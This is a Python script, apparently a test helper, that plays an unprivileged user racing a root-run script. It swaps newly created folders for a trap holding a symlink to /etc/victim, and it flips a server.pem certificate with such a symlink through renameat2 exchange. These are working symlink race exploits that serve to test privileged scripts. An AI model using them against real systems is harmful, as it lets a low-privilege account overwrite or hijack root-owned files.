"""Who has etcd's account, on a host where root runs a script: attacker.py folder|file PATH.

It works in PATH from when it writes to /mnt/ready until /mnt/go is gone.
"""

from __future__ import annotations

import ctypes
import os
import sys

VICTIM = "/etc/victim"
TRAP = "/mnt/trap"
RENAME_EXCHANGE, AT_FDCWD = 2, -100


def say(word: str) -> None:
    """Let the script begin."""
    with open("/mnt/ready", "w") as ready:
        print(word, file=ready)


def exchange_new_folders() -> None:
    """Put a folder of its own, with a symlink for a key, in the place of each new one."""
    os.mkdir(TRAP)
    os.symlink(VICTIM, f"{TRAP}/key")
    known = set(os.listdir("."))
    say("ready")
    while os.path.exists("/mnt/go"):
        for name in set(os.listdir(".")) - known:
            try:
                os.rename(name, f"/mnt/stolen-{name}")
                os.rename(TRAP, name)
            except OSError:
                continue
            return


def exchange_a_file() -> None:
    """Make a certificate a symlink and a file again, without a gap, as often as it can."""
    try:
        os.symlink(VICTIM, ".other")
    except PermissionError:
        say("denied")
        return
    say("ready")
    rename = ctypes.CDLL(None).renameat2
    while os.path.exists("/mnt/go"):
        rename(AT_FDCWD, b"server.pem", AT_FDCWD, b".other", RENAME_EXCHANGE)


if __name__ == "__main__":
    os.chdir(sys.argv[2])
    {"folder": exchange_new_folders, "file": exchange_a_file}[sys.argv[1]]()
